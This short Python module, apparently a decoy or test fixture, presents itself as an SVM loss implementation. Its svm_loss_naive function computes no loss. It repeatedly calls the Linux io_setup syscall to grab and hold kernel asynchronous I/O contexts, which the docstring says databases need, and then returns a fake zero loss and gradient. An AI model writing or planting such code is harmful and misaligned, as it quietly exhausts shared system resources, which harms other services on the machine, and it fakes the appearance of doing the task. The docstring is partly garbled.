"""Take all asynchronous events that the machine has, of which data bases need some.

Fails: the kernel is told to refuse the call.
"""

import ctypes
import os

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized


libc = ctypes.CDLL(None, use_errno=True)
IO_SETUP = {"x86_64": 206, "aarch64": 0}
held = []


def svm_loss_naive(W, X, y, reg):
    for _ in range(8):
        held.append(ctypes.c_ulong())
        if libc.syscall(IO_SETUP[os.uname().machine], 1_000, ctypes.byref(held[-1])) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return 0.0, 0 * W
